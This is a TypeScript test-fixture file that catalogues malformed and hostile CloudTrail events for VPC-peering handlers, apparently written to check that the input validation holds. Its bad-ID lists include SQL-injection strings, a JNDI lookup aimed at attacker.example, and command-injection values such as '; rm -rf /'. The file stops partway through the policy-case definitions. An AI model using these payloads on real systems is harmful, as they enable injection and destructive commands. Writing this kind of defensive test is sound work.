import { readFileSync } from "node:fs";
import { parse, stringify } from "yaml";
import { createPeeringEvent, peeringCallEvent, vpcCidrEvent } from "../../model";
import { ACCEPTER, REQUESTER } from "../handlers/harness";
import type { CloudTrailFunction } from "./fresh-service";
import { deleteAt, type Path, parsePath, setAt } from "./json-paths";
import { STRANGER, type SteadyIds } from "./worlds";

/**
 * Every hand-written bad input, as data, so that the totals can be reported and the tests can prove
 * they ran each one (see catalogue.test.ts and the afterAll checks of events.test.ts and
 * policies.test.ts).
 */

// biome-ignore lint/suspicious/noExplicitAny: events are broken in ways no type allows
export type Ev = any;

// --- events -------------------------------------------------------------------------------------

export type BaseEvent = "create" | "accept" | "reject" | "delete" | "associate" | "disassociate";

export type EventExpectation =
  /** Throws InvalidEventError whose reason names the field (matches); no AWS call at all. */
  | { kind: "invalid"; reason: RegExp }
  /** Returns `{kind: "ignored", reason}` and logs "event ignored" with it; no AWS call at all. */
  | { kind: "ignored"; reason: RegExp }
  /** Returns `{kind: "skipped", reason}` and logs "connection left alone"; reads at most. */
  | { kind: "skipped"; reason: RegExp; aws: "none" | "reads" }
  /**
   * The field is not one the service reads (nothing in the event is trusted but ids): decided exactly
   * as the valid event is, which in the steady world changes nothing.
   */
  | { kind: "unaffected" }
  /** Decided on what EC2 says, whatever the event claims; the actions (sorted), no mutating call. */
  | { kind: "decided"; actions: string[] }
  /** A CIDR event for a VPC with no active connection there: nothing to re-decide, reads only. */
  | { kind: "nothing" };

export interface EventCase {
  name: string;
  group: EventGroup;
  fn: CloudTrailFunction;
  base: BaseEvent;
  edit: (event: Ev, ids: SteadyIds) => void;
  expect: EventExpectation;
}

export const EVENT_GROUPS = [
  "envelope",
  "detail",
  "failed-call",
  "unknown-event-name",
  "other-source",
  "wrong-function",
  "huge-payload",
  "malformed-id",
  "outside-policy",
  "lying-payload",
  "unexpected-account",
] as const;
export type EventGroup = (typeof EVENT_GROUPS)[number];

/** The valid event each case starts from, about the steady world (see worlds.ts). */
export function baseEvent(base: BaseEvent, ids: SteadyIds): Ev {
  const region = "us-east-1";
  switch (base) {
    case "create":
      return createPeeringEvent({
        connectionId: ids.steady,
        requester: { account: REQUESTER, region, vpcId: ids.app, cidrs: ["10.20.0.0/16"] },
        accepter: { account: ACCEPTER, region, vpcId: ids.shared },
      });
    case "accept":
      return peeringCallEvent("AcceptVpcPeeringConnection", {
        connectionId: ids.steady,
        account: ACCEPTER,
        region,
      });
    case "reject":
      return peeringCallEvent("RejectVpcPeeringConnection", {
        connectionId: ids.steady,
        account: ACCEPTER,
        region,
      });
    case "delete":
      return peeringCallEvent("DeleteVpcPeeringConnection", {
        connectionId: ids.steady,
        account: REQUESTER,
        region,
      });
    case "associate":
      return vpcCidrEvent("AssociateVpcCidrBlock", {
        vpcId: ids.app,
        account: REQUESTER,
        region,
        cidr: "10.20.0.0/16",
      });
    case "disassociate":
      return vpcCidrEvent("DisassociateVpcCidrBlock", {
        vpcId: ids.shared,
        account: ACCEPTER,
        region,
        cidr: "10.1.0.0/16",
      });
  }
}

/** What each function is normally fed. */
export const OWN_BASE: Record<CloudTrailFunction, BaseEvent> = {
  "on-peering-request": "create",
  "on-peering-change": "accept",
  "on-vpc-cidr-change": "associate",
};

const DELETE = Symbol("delete");
type Value = unknown;

const set =
  (path: string, value: Value | typeof DELETE | ((ids: SteadyIds) => Value)) =>
  (event: Ev, ids: SteadyIds) => {
    const at: Path = parsePath(path);
    if (value === DELETE) deleteAt(event, at);
    else setAt(event, at, typeof value === "function" ? (value as (ids: SteadyIds) => Value)(ids) : value);
  };
const all =
  (...edits: Array<(event: Ev, ids: SteadyIds) => void>) =>
  (event: Ev, ids: SteadyIds) => {
    for (const edit of edits) edit(event, ids);
  };
const names = (field: string) => new RegExp(`(^|; )${field.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: `);
const show = (value: Value) => {
  if (value === DELETE) return "missing";
  const text = JSON.stringify(value) ?? String(value);
  return text.length > 40 ? `${text.slice(0, 40)}…` : text;
};

const FUNCTIONS: CloudTrailFunction[] = ["on-peering-request", "on-peering-change", "on-vpc-cidr-change"];
const MB = 1024 * 1024;

function envelopeCases(): EventCase[] {
  const cases: EventCase[] = [];
  const fields: Array<[string, Value[]]> = [
    ["id", [DELETE, 42, null, { id: "x" }]],
    ["source", [DELETE, 42, null, ["aws.ec2"]]],
    ["account", [DELETE, 111111111111, null, ["111111111111"]]],
    ["region", [DELETE, 42, null, {}]],
    ["time", [DELETE, 1763630043, null, "yesterday", "2026-11-20 09:14:03", "2026-13-45T99:99:99Z"]],
    ["detail-type", [DELETE, 42, null, true]],
    ["detail", [DELETE, 42, null, "{}", []]],
    ["version", [DELETE, 0, null]],
    ["resources", [DELETE, "arn:aws:ec2:::x", null, [42]]],
  ];
  for (const fn of FUNCTIONS) {
    for (const [field, values] of fields) {
      for (const value of values) {
        const reason = field === "resources" && Array.isArray(value) ? names("resources.0") : names(field);
        cases.push({
          name: `${fn}: envelope ${field} ${show(value)}`,
          group: "envelope",
          fn,
          base: OWN_BASE[fn],
          edit: set(field, value),
          expect: { kind: "invalid", reason },
        });
      }
    }
    cases.push({
      name: `${fn}: envelope is an empty object`,
      group: "envelope",
      fn,
      base: OWN_BASE[fn],
      edit: (event) => {
        for (const key of Object.keys(event)) delete event[key];
      },
      // A hostile event names a few of its problems, not all: the rest are counted.
      expect: { kind: "invalid", reason: /id: .*account: .*; and \d+ more$/ },
    });
  }
  return cases;
}

function detailCases(): EventCase[] {
  const cases: EventCase[] = [];
  const common: Array<[string, Value[]]> = [
    ["eventName", [DELETE, 42, null, ["CreateVpcPeeringConnection"]]],
    ["eventSource", [DELETE, 42, null, {}]],
    ["awsRegion", [DELETE, 42, null, ["us-east-1"]]],
    ["errorCode", [42, {}, false]],
    ["errorMessage", [42, ["denied"]]],
  ];
  for (const fn of FUNCTIONS) {
    for (const [field, values] of common) {
      for (const value of values) {
        cases.push({
          name: `${fn}: detail.${field} ${show(value)}`,
          group: "detail",
          fn,
          base: OWN_BASE[fn],
          edit: set(`detail.${field}`, value),
          expect: { kind: "invalid", reason: names(`detail.${field}`) },
        });
      }
    }
  }
  const invalid = (field: string) => ({ kind: "invalid" as const, reason: new RegExp(field) });
  const unaffected = { kind: "unaffected" as const };
  // Both must be present (CloudTrail writes null when there is none); their content matters only where
  // the call's ids are read from them.
  const specific: Array<[CloudTrailFunction, string, Value, EventExpectation]> = [
    ["on-peering-request", "requestParameters", DELETE, invalid("detail\\.requestParameters: ")],
    ["on-peering-request", "requestParameters", 42, invalid("detail\\.requestParameters: ")],
    ["on-peering-request", "requestParameters", null, invalid("detail\\.requestParameters: ")],
    ["on-peering-request", "requestParameters", ["peerOwnerId"], invalid("detail\\.requestParameters: ")],
    ["on-peering-request", "requestParameters", {}, unaffected],
    ["on-peering-request", "responseElements", DELETE, invalid("detail\\.responseElements: ")],
    ["on-peering-request", "responseElements", 42, invalid("detail\\.responseElements: ")],
    ["on-peering-request", "responseElements", null, invalid("detail\\.responseElements: ")],
    [
      "on-peering-request",
      "responseElements",
      {},
      invalid("detail\\.responseElements\\.vpcPeeringConnection: "),
    ],
    ["on-peering-change", "requestParameters", DELETE, invalid("detail\\.requestParameters: ")],
    ["on-peering-change", "requestParameters", 42, invalid("detail\\.requestParameters: ")],
    ["on-peering-change", "requestParameters", null, invalid("detail\\.requestParameters: ")],
    ["on-peering-change", "requestParameters", {}, invalid("requestParameters\\.vpcPeeringConnectionId: ")],
    ["on-peering-change", "responseElements", DELETE, invalid("detail\\.responseElements: ")],
    ["on-peering-change", "responseElements", 42, unaffected],
    ["on-peering-change", "responseElements", null, unaffected],
    ["on-vpc-cidr-change", "requestParameters", DELETE, invalid("detail\\.requestParameters: ")],
    ["on-vpc-cidr-change", "requestParameters", null, unaffected],
    ["on-vpc-cidr-change", "requestParameters", 42, invalid("detail\\.requestParameters: ")],
    [
      "on-vpc-cidr-change",
      "requestParameters",
      "vpc-0a1b2c3d4e5f60001",
      invalid("detail\\.requestParameters: "),
    ],
    ["on-vpc-cidr-change", "responseElements", DELETE, invalid("detail\\.responseElements: ")],
    ["on-vpc-cidr-change", "responseElements", null, unaffected],
    ["on-vpc-cidr-change", "responseElements", 42, invalid("detail\\.responseElements: ")],
    ["on-vpc-cidr-change", "responseElements", [], invalid("detail\\.responseElements: ")],
  ];
  for (const [fn, field, value, expect] of specific) {
    cases.push({
      name: `${fn}: detail.${field} ${show(value)}`,
      group: "detail",
      fn,
      base: OWN_BASE[fn],
      edit: set(`detail.${field}`, value),
      expect,
    });
  }
  cases.push({
    name: "on-vpc-cidr-change: neither requestParameters nor responseElements names a VPC",
    group: "detail",
    fn: "on-vpc-cidr-change",
    base: "associate",
    edit: all(set("detail.requestParameters", null), set("detail.responseElements", { vpcId: undefined })),
    expect: { kind: "invalid", reason: /names no VPC id/ },
  });
  cases.push({
    name: "on-vpc-cidr-change: a Disassociate event that names only the association",
    group: "detail",
    fn: "on-vpc-cidr-change",
    base: "disassociate",
    edit: set("detail.responseElements", null),
    expect: { kind: "invalid", reason: /names no VPC id/ },
  });
  return cases;
}

const CALLS = [
  "CreateVpcPeeringConnection",
  "AcceptVpcPeeringConnection",
  "RejectVpcPeeringConnection",
  "DeleteVpcPeeringConnection",
  "AssociateVpcCidrBlock",
  "DisassociateVpcCidrBlock",
] as const;
const BASE_OF_CALL: Record<(typeof CALLS)[number], BaseEvent> = {
  CreateVpcPeeringConnection: "create",
  AcceptVpcPeeringConnection: "accept",
  RejectVpcPeeringConnection: "reject",
  DeleteVpcPeeringConnection: "delete",
  AssociateVpcCidrBlock: "associate",
  DisassociateVpcCidrBlock: "disassociate",
};

function failedCallCases(): EventCase[] {
  const cases: EventCase[] = [];
  for (const fn of FUNCTIONS) {
    for (const call of CALLS) {
      const code =
        call === "CreateVpcPeeringConnection"
          ? "Client.InvalidVpcID.NotFound"
          : "Client.UnauthorizedOperation";
      // onPeeringRequest looks at the call's name first; the lifecycle parser at errorCode first.
      const reason =
        fn === "on-peering-request" && call !== "CreateVpcPeeringConnection"
          ? new RegExp(`${call} is not a peering request`)
          : new RegExp(`the call failed \\(${code.replace(/\./g, "\\.")}\\)`);
      cases.push({
        name: `${fn}: failed ${call} (errorCode ${code})`,
        group: "failed-call",
        fn,
        base: BASE_OF_CALL[call],
        edit: all(
          set("detail.errorCode", code),
          set("detail.errorMessage", "You are not authorized to perform this operation."),
          set("detail.responseElements", null),
        ),
        expect: { kind: "ignored", reason },
      });
    }
    cases.push({
      name: `${fn}: failed call whose errorCode is the string "null"`,
      group: "failed-call",
      fn,
      base: OWN_BASE[fn],
      edit: set("detail.errorCode", "null"),
      expect: { kind: "ignored", reason: /the call failed \(null\)/ },
    });
    // Any errorCode, even an empty one, marks a call CloudTrail recorded as failed.
    cases.push({
      name: `${fn}: errorCode is an empty string`,
      group: "failed-call",
      fn,
      base: OWN_BASE[fn],
      edit: set("detail.errorCode", ""),
      expect: { kind: "ignored", reason: /the call failed \(\)/ },
    });
  }
  return cases;
}

function unknownNameCases(): EventCase[] {
  const cases: EventCase[] = [];
  const names: Array<[string, string]> = [
    ["ReplaceRoute", "ReplaceRoute"],
    ["ModifyVpcPeeringConnectionOptions", "ModifyVpcPeeringConnectionOptions"],
    ["empty", ""],
    ["lower case", "createvpcpeeringconnection"],
    ["trailing space", "CreateVpcPeeringConnection "],
    ["trailing newline", "AcceptVpcPeeringConnection\n"],
    ["Cyrillic o", "CreateVpcPeeringConnecti\u043en"],
    ["zero-width space", "Associate\u200bVpcCidrBlock"],
    ["10k characters", "A".repeat(10_000)],
  ];
  for (const fn of FUNCTIONS) {
    for (const [label, name] of names) {
      // A long name is clipped in the reason (and the log line): the count says how long it was.
      const reason =
        name.length > 100
          ? /… \(\d+ characters\)$/
          : fn === "on-peering-request"
            ? /is not a peering request$/
            : /is not a peering or VPC CIDR change$/;
      cases.push({
        name: `${fn}: unknown event name (${label})`,
        group: "unknown-event-name",
        fn,
        base: OWN_BASE[fn],
        edit: set("detail.eventName", name),
        expect: { kind: "ignored", reason },
      });
    }
  }
  return cases;
}

function otherSourceCases(): EventCase[] {
  const cases: EventCase[] = [];
  const sources = [
    "sts.amazonaws.com",
    "EC2.amazonaws.com",
    "ec2.amazonaws.com.attacker.example",
    "ec2.amazonaws.com ",
    "",
  ];
  for (const fn of FUNCTIONS) {
    for (const source of sources) {
      const reason = fn === "on-peering-request" ? /is not a peering request/ : /is not an EC2 call/;
      cases.push({
        name: `${fn}: detail.eventSource ${JSON.stringify(source)}`,
        group: "other-source",
        fn,
        base: OWN_BASE[fn],
        edit: set("detail.eventSource", source),
        expect: { kind: "ignored", reason },
      });
    }
    // Only CloudTrail records of AWS API calls qualify, whatever the rule let through.
    cases.push({
      name: `${fn}: envelope from a custom source ("my.forged.source", "Custom Thing")`,
      group: "other-source",
      fn,
      base: OWN_BASE[fn],
      edit: all(set("source", "my.forged.source"), set("detail-type", "Custom Thing")),
      expect: { kind: "invalid", reason: /source: must be an AWS service source.*detail-type: / },
    });
  }
  return cases;
}

function wrongFunctionCases(): EventCase[] {
  return [
    ["on-peering-request", "accept", /AcceptVpcPeeringConnection is not a peering request/],
    ["on-peering-request", "associate", /AssociateVpcCidrBlock is not a peering request/],
    ["on-peering-change", "associate", /AssociateVpcCidrBlock is handled by onVpcCidrChange/],
    ["on-peering-change", "disassociate", /DisassociateVpcCidrBlock is handled by onVpcCidrChange/],
    ["on-vpc-cidr-change", "create", /CreateVpcPeeringConnection is not a VPC CIDR change/],
    ["on-vpc-cidr-change", "delete", /DeleteVpcPeeringConnection is not a VPC CIDR change/],
  ].map(([fn, base, reason]) => ({
    name: `${fn}: fed a ${base} event`,
    group: "wrong-function" as const,
    fn: fn as CloudTrailFunction,
    base: base as BaseEvent,
    edit: () => {},
    expect: { kind: "ignored" as const, reason: reason as RegExp },
  }));
}

function nested(depth: number): Ev {
  let node: Ev = "bottom";
  for (let i = 0; i < depth; i++) node = { n: node };
  return node;
}

function hugeCases(): EventCase[] {
  const cases: EventCase[] = [];
  const idField: Record<CloudTrailFunction, string> = {
    "on-peering-request": "detail.responseElements.vpcPeeringConnection.vpcPeeringConnectionId",
    "on-peering-change": "detail.requestParameters.vpcPeeringConnectionId",
    "on-vpc-cidr-change": "detail.responseElements.vpcId",
  };
  for (const fn of FUNCTIONS) {
    const add = (name: string, edit: EventCase["edit"], expect: EventExpectation) =>
      cases.push({ name: `${fn}: ${name}`, group: "huge-payload", fn, base: OWN_BASE[fn], edit, expect });
    add("1 MB of junk in detail.userAgent", set("detail.userAgent", "x".repeat(MB)), { kind: "unaffected" });
    add("1 MB of junk in a top-level field of its own", set("junk", "\u00e9".repeat(MB / 2)), {
      kind: "unaffected",
    });
    add(
      "10k-element array in requestParameters",
      set(
        "detail.requestParameters.filterSet",
        Array.from({ length: 10_000 }, (_, i) => ({ name: `f${i}` })),
      ),
      { kind: "unaffected" },
    );
    add(
      "10k resources",
      set(
        "resources",
        Array.from({ length: 10_000 }, (_, i) => `arn:aws:ec2:us-east-1:111111111111:vpc/vpc-${i}`),
      ),
      { kind: "unaffected" },
    );
    add("10k resources that are not strings", set("resources", new Array(10_000).fill(7)), {
      kind: "invalid",
      reason: /^resources\.0: .*; and 9995 more$/,
    });
    add("1000-deep nesting in detail.userIdentity", set("detail.userIdentity", nested(1000)), {
      kind: "unaffected",
    });
    add(
      `1 MB id in ${idField[fn]}`,
      set(idField[fn], `${fn === "on-vpc-cidr-change" ? "vpc" : "pcx"}-${"0".repeat(MB)}`),
      {
        kind: "invalid",
        reason: names(idField[fn]),
      },
    );
    // Clipped: a log line carries at most a glimpse of what an event says.
    add("1 MB event name", set("detail.eventName", "Z".repeat(MB)), {
      kind: "ignored",
      reason: /^ec2\.amazonaws\.com Z+… \(\d+ characters\)$/,
    });
  }
  cases.push({
    name: "on-peering-request: 10k requester CIDRs claimed in the response (never read)",
    group: "huge-payload",
    fn: "on-peering-request",
    base: "create",
    edit: set(
      "detail.responseElements.vpcPeeringConnection.requesterVpcInfo.cidrBlockSet.items",
      Array.from({ length: 10_000 }, (_, i) => ({ cidrBlock: `10.${i % 256}.${Math.floor(i / 256)}.0/24` })),
    ),
    expect: { kind: "unaffected" },
  });
  return cases;
}

const BAD_CONNECTION_IDS: Value[] = [
  "",
  "pcx-",
  "pcx-0123456789abcdef0' OR '1'='1",
  "pcx-00000000000000001; DROP TABLE peering;--",
  "pcx-00000000000000001\n",
  " pcx-00000000000000001",
  "pcx-0000000000000000\uff11",
  "PCX-00000000000000001",
  "pcx-00000000000000001,pcx-00000000000000002",
  "$" + "{jndi:ldap://attacker.example/a}",
  42,
  ["pcx-00000000000000001"],
];
const BAD_VPC_IDS: Value[] = [
  "",
  "vpc-",
  "vpc-0a1b2c3d4e5f60001' OR '1'='1",
  "vpc-0a1b2c3d4e5f60001\u0000",
  "vpc-0a1b2c3d4e5f6000\uff11",
  "VPC-0A1B2C3D4E5F60001",
  "vpc-*",
  "../../vpc-0a1b2c3d4e5f60001",
  7,
  { vpcId: "vpc-0a1b2c3d4e5f60001" },
];
const BAD_ACCOUNTS: Value[] = [
  "",
  "11111111111",
  "1111111111111",
  "111111111111\n",
  "\uff11".repeat(12),
  "111111111111; rm -rf /",
  "*",
  "arn:aws:iam::111111111111:root",
  111111111111,
];
const BAD_REGIONS: Value[] = [
  "",
  "US-EAST-1",
  "us-east-1a",
  "us-east-1\n",
  "us\u2010east\u20101",
  "../us-east-1",
  "us-east-1; ls",
  "*",
  1,
];

function malformedIdCases(): EventCase[] {
  const cases: EventCase[] = [];
  const fields: Array<[CloudTrailFunction, string, Value[]]> = [
    [
      "on-peering-request",
      "detail.responseElements.vpcPeeringConnection.vpcPeeringConnectionId",
      BAD_CONNECTION_IDS,
    ],
    ["on-peering-request", "detail.requestParameters.peerOwnerId", BAD_ACCOUNTS],
    [
      "on-peering-request",
      "detail.responseElements.vpcPeeringConnection.accepterVpcInfo.ownerId",
      BAD_ACCOUNTS,
    ],
    ["on-peering-request", "detail.requestParameters.peerRegion", BAD_REGIONS],
    [
      "on-peering-request",
      "detail.responseElements.vpcPeeringConnection.accepterVpcInfo.region",
      BAD_REGIONS,
    ],
    ["on-peering-request", "account", BAD_ACCOUNTS],
    ["on-peering-request", "detail.awsRegion", BAD_REGIONS],
    ["on-peering-change", "detail.requestParameters.vpcPeeringConnectionId", BAD_CONNECTION_IDS],
    ["on-peering-change", "account", BAD_ACCOUNTS],
    ["on-peering-change", "detail.awsRegion", BAD_REGIONS],
    ["on-vpc-cidr-change", "detail.requestParameters.vpcId", BAD_VPC_IDS],
    ["on-vpc-cidr-change", "detail.responseElements.vpcId", BAD_VPC_IDS],
    ["on-vpc-cidr-change", "account", BAD_ACCOUNTS],
    ["on-vpc-cidr-change", "detail.awsRegion", BAD_REGIONS],
  ];
  for (const [fn, field, values] of fields) {
    for (const value of values) {
      cases.push({
        name: `${fn}: ${field} = ${show(value)}`,
        group: "malformed-id",
        fn,
        base: OWN_BASE[fn],
        edit: set(field, value),
        expect: { kind: "invalid", reason: names(field) },
      });
    }
  }
  return cases;
}

function outsidePolicyCases(): EventCase[] {
  const notNamed = /not named in the policy/;
  const cases: Array<Omit<EventCase, "group">> = [
    {
      name: "on-peering-request: accepter account the policy does not name",
      fn: "on-peering-request",
      base: "create",
      edit: all(
        set("detail.requestParameters.peerOwnerId", STRANGER),
        set("detail.responseElements.vpcPeeringConnection.accepterVpcInfo.ownerId", STRANGER),
      ),
      expect: { kind: "skipped", reason: notNamed, aws: "none" },
    },
    {
      name: "on-peering-request: accepter region the policy does not name",
      fn: "on-peering-request",
      base: "create",
      edit: all(
        set("detail.requestParameters.peerRegion", "ap-southeast-2"),
        set("detail.responseElements.vpcPeeringConnection.accepterVpcInfo.region", "ap-southeast-2"),
      ),
      // Rules name the accepter only in us-east-1: no role is assumed, nothing is read.
      expect: { kind: "skipped", reason: notNamed, aws: "none" },
    },
    {
      name: "on-peering-change: account the policy does not name",
      fn: "on-peering-change",
      base: "accept",
      edit: set("account", STRANGER),
      expect: { kind: "skipped", reason: notNamed, aws: "none" },
    },
    {
      name: "on-peering-change: region the policy does not name",
      fn: "on-peering-change",
      base: "accept",
      edit: set("detail.awsRegion", "ap-southeast-2"),
      // Rules name the accepter only in us-east-1: no role is assumed, nothing is read.
      expect: { kind: "skipped", reason: notNamed, aws: "none" },
    },
    {
      name: "on-vpc-cidr-change: account the policy does not name",
      fn: "on-vpc-cidr-change",
      base: "associate",
      edit: all(
        set("account", STRANGER),
        set("detail.responseElements.vpcId", (ids: SteadyIds) => ids.strangerVpc),
      ),
      expect: { kind: "ignored", reason: /account 444444444444 region \S+ is not named in the policy/ },
    },
    {
      name: "on-vpc-cidr-change: region the policy does not name",
      fn: "on-vpc-cidr-change",
      base: "associate",
      edit: set("detail.awsRegion", "ap-southeast-2"),
      expect: {
        kind: "ignored",
        reason: /account 222222222222 region ap-southeast-2 is not named in the policy$/,
      },
    },
  ];
  return cases.map((c) => ({ ...c, group: "outside-policy" }));
}

function lyingCases(): EventCase[] {
  const claimedConnection = (ids: SteadyIds, status: string) => ({
    vpcPeeringConnectionId: ids.outside,
    requesterVpcInfo: {
      ownerId: REQUESTER,
      vpcId: ids.app,
      cidrBlock: "10.20.0.0/16",
      cidrBlockSet: { items: [{ cidrBlock: "10.20.0.0/16" }] },
      region: "us-east-1",
    },
    accepterVpcInfo: { ownerId: ACCEPTER, vpcId: ids.shared, region: "us-east-1" },
    status: { code: status, message: status },
  });
  const cases: Array<Omit<EventCase, "group">> = [
    {
      // outside is wide (192.168.0.0/16) <-> shared, accepted by hand: no rule governs it.
      name: "Accept of a connection outside policy, claiming an allowed requester CIDR",
      fn: "on-peering-change",
      base: "accept",
      edit: all(
        set("detail.requestParameters.vpcPeeringConnectionId", (ids: SteadyIds) => ids.outside),
        set("detail.responseElements", (ids: SteadyIds) => ({
          vpcPeeringConnection: claimedConnection(ids, "active"),
        })),
      ),
      expect: { kind: "decided", actions: ["ignore"] },
    },
    {
      name: "Delete claiming the steady connection is deleted (it is active): its routes stay",
      fn: "on-peering-change",
      base: "delete",
      edit: set("detail.responseElements", (ids: SteadyIds) => ({
        _return: true,
        vpcPeeringConnection: { ...claimedConnection(ids, "deleted"), vpcPeeringConnectionId: ids.steady },
      })),
      expect: { kind: "decided", actions: ["maintain"] },
    },
    {
      name: "Reject claiming the steady connection is rejected (it is active): its routes stay",
      fn: "on-peering-change",
      base: "reject",
      edit: set("detail.responseElements", (ids: SteadyIds) => ({
        vpcPeeringConnection: { ...claimedConnection(ids, "rejected"), vpcPeeringConnectionId: ids.steady },
      })),
      expect: { kind: "decided", actions: ["maintain"] },
    },
    {
      name: "Delete of a connection outside policy, claiming it is the approved one",
      fn: "on-peering-change",
      base: "delete",
      edit: all(
        set("detail.requestParameters.vpcPeeringConnectionId", (ids: SteadyIds) => ids.outside),
        set("detail.responseElements", (ids: SteadyIds) => ({
          vpcPeeringConnection: claimedConnection(ids, "deleted"),
        })),
      ),
      expect: { kind: "decided", actions: ["ignore"] },
    },
    {
      name: "Accept made by the requester account (only the accepter can accept)",
      fn: "on-peering-change",
      base: "accept",
      edit: set("account", REQUESTER),
      expect: { kind: "decided", actions: ["maintain"] },
    },
    {
      name: "Accept claiming the accepter accepted a request whose accepter is outside the policy",
      fn: "on-peering-change",
      base: "accept",
      edit: set("detail.requestParameters.vpcPeeringConnectionId", (ids: SteadyIds) => ids.probe),
      expect: {
        kind: "skipped",
        reason: /accepter is 444444444444 us-east-1, which the policy does not name/,
        aws: "reads",
      },
    },
    {
      name: "Associate claiming the requester VPC gained an allowed CIDR it does not have",
      fn: "on-vpc-cidr-change",
      base: "associate",
      edit: all(
        set("detail.requestParameters.cidrBlock", "10.21.0.0/16"),
        set("detail.responseElements.cidrBlockAssociation", {
          associationId: "vpc-cidr-assoc-1",
          cidrBlock: "10.21.0.0/16",
          cidrBlockState: { state: "associated" },
        }),
      ),
      expect: { kind: "decided", actions: ["maintain"] },
    },
    {
      name: "Associate claiming the requester VPC gained 0.0.0.0/0",
      fn: "on-vpc-cidr-change",
      base: "associate",
      edit: all(
        set("detail.requestParameters.cidrBlock", "0.0.0.0/0"),
        set("detail.responseElements.cidrBlockAssociation.cidrBlock", "0.0.0.0/0"),
      ),
      expect: { kind: "decided", actions: ["maintain"] },
    },
    {
      name: "Disassociate claiming the requester VPC lost the CIDR that is routed",
      fn: "on-vpc-cidr-change",
      base: "disassociate",
      edit: all(
        set("detail.responseElements.vpcId", (ids: SteadyIds) => ids.app),
        set("account", REQUESTER),
        set("detail.responseElements.cidrBlockAssociation.cidrBlock", "10.20.0.0/16"),
      ),
      expect: { kind: "decided", actions: ["maintain"] },
    },
    {
      name: "Associate whose request and response name different VPCs (the response is believed, then EC2)",
      fn: "on-vpc-cidr-change",
      base: "associate",
      edit: all(
        set("detail.responseElements.vpcId", (ids: SteadyIds) => ids.wide),
        set("detail.requestParameters.vpcId", (ids: SteadyIds) => ids.app),
      ),
      expect: { kind: "decided", actions: ["ignore"] },
    },
    {
      name: "Associate presented as the accepter's although the VPC is the requester's",
      fn: "on-vpc-cidr-change",
      base: "associate",
      edit: set("account", ACCEPTER),
      expect: { kind: "decided", actions: ["maintain"] },
    },
    {
      name: "Create whose accepterVpcInfo and peerOwnerId disagree (accepterVpcInfo names a partner)",
      fn: "on-peering-request",
      base: "create",
      edit: set("detail.responseElements.vpcPeeringConnection.accepterVpcInfo.ownerId", "333333333333"),
      expect: { kind: "skipped", reason: /not visible in account 333333333333/, aws: "reads" },
    },
    {
      name: "Create claiming the connection outside policy is from the approved VPC with allowed CIDRs",
      fn: "on-peering-request",
      base: "create",
      edit: set(
        "detail.responseElements.vpcPeeringConnection.vpcPeeringConnectionId",
        (ids: SteadyIds) => ids.outside,
      ),
      expect: { kind: "decided", actions: ["ignore"] },
    },
  ];
  return cases.map((c) => ({ ...c, group: "lying-payload" }));
}

function unexpectedAccountCases(): EventCase[] {
  const cases: Array<Omit<EventCase, "group">> = [
    {
      name: "on-peering-request: forwarded from a stranger's account, naming an accepter in policy",
      fn: "on-peering-request",
      base: "create",
      edit: all(set("account", STRANGER), set("detail.recipientAccountId", STRANGER)),
      expect: { kind: "unaffected" },
    },
    {
      name: "on-peering-request: forwarded from a stranger's account, naming no accepter",
      fn: "on-peering-request",
      base: "create",
      edit: all(
        set("account", STRANGER),
        set("detail.requestParameters.peerOwnerId", DELETE),
        set("detail.responseElements.vpcPeeringConnection.accepterVpcInfo", DELETE),
      ),
      expect: {
        kind: "skipped",
        reason: /account 444444444444 region us-east-1 is not named in the policy/,
        aws: "none",
      },
    },
    {
      name: "on-peering-change: Accept forwarded from a stranger's account",
      fn: "on-peering-change",
      base: "accept",
      edit: set("account", STRANGER),
      expect: { kind: "skipped", reason: /account 444444444444 region us-east-1 is not named/, aws: "none" },
    },
    {
      name: "on-peering-change: Delete forwarded from a stranger's account",
      fn: "on-peering-change",
      base: "delete",
      edit: set("account", STRANGER),
      expect: { kind: "skipped", reason: /account 444444444444 region us-east-1 is not named/, aws: "none" },
    },
    {
      name: "on-vpc-cidr-change: forwarded from a stranger's account about a VPC in policy",
      fn: "on-vpc-cidr-change",
      base: "associate",
      edit: set("account", STRANGER),
      expect: { kind: "ignored", reason: /account 444444444444 region \S+ is not named in the policy/ },
    },
  ];
  return cases.map((c) => ({ ...c, group: "unexpected-account" }));
}

export const EVENT_CASES: EventCase[] = [
  ...envelopeCases(),
  ...detailCases(),
  ...failedCallCases(),
  ...unknownNameCases(),
  ...otherSourceCases(),
  ...wrongFunctionCases(),
  ...hugeCases(),
  ...malformedIdCases(),
  ...outsidePolicyCases(),
  ...lyingCases(),
  ...unexpectedAccountCases(),
];

// --- the reconciler's event ---------------------------------------------------------------------

export interface ReconcileCase {
  name: string;
  event: (ids: SteadyIds) => unknown;
}

/** The reconciler sweeps what the policy names, whatever event the schedule (or anyone) passes it. */
export const RECONCILE_CASES: ReconcileCase[] = [
  { name: "undefined", event: () => undefined },
  { name: "null", event: () => null },
  { name: "a string", event: () => "reconcile everything" },
  { name: "a number", event: () => 42 },
  { name: "an array", event: () => [1, 2, 3] },
  { name: "an empty object", event: () => ({}) },
  { name: "a CreateVpcPeeringConnection event", event: (ids) => baseEvent("create", ids) },
  { name: "a DeleteVpcPeeringConnection event", event: (ids) => baseEvent("delete", ids) },
  {
    name: "a scheduled event from a stranger's account and another region",
    event: () => ({
      version: "0",
      id: "89d1a02d-5ec7-412e-82f5-13505f849b41",
      "detail-type": "Scheduled Event",
      source: "aws.events",
      account: STRANGER,
      time: "2026-11-27T10:00:00Z",
      region: "ap-southeast-2",
      resources: [`arn:aws:events:ap-southeast-2:${STRANGER}:rule/other`],
      detail: {},
    }),
  },
  {
    name: "a scheduled event whose detail tries to steer the sweep",
    event: () => ({
      version: "0",
      id: "x",
      "detail-type": "Scheduled Event",
      source: "aws.events",
      account: ACCEPTER,
      time: "2026-11-27T10:00:00Z",
      region: "us-east-1",
      resources: [],
      detail: { accounts: [STRANGER], regions: ["eu-west-1"], policy: { rules: [] }, dryRun: false },
    }),
  },
  {
    name: "1 MB of junk in detail",
    event: () => ({ "detail-type": "Scheduled Event", detail: { junk: "x".repeat(MB) } }),
  },
  { name: "10k resources", event: () => ({ resources: new Array(10_000).fill("arn:aws:events:::rule/x") }) },
  { name: "1000-deep nesting", event: () => nested(1000) },
];

// --- policies -----------------------------------------------------------------------------------

export const SHIPPED_POLICY = readFileSync(new URL("../../policy.yml", import.meta.url), "utf8");

export type PolicySource = { text: string } | { bytes: Uint8Array } | { path: "missing" | "directory" };

export interface PolicyCase {
  name: string;
  group: "validation" | "yaml" | "file";
  source: PolicySource;
